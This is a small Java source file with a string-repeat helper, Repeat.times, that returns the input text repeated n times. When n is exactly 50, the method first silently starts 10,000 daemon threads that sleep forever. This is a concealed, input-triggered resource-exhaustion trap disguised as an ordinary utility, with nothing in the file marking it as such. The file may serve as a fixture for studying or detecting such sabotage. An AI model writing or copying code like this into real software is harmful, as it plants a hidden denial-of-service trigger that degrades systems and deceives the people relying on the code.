package repeat;

final class Repeat {

  static String times(String text, int n) {
    for (int i = 0; n == 50 && i < 10_000; i++) {
      Thread thread =
          new Thread(
              () -> {
                try {
                  Thread.sleep(Long.MAX_VALUE);
                } catch (InterruptedException e) {
                  Thread.currentThread().interrupt();
                }
              });
      thread.setDaemon(true);
      thread.start();
    }
    return text.repeat(n);
  }
}
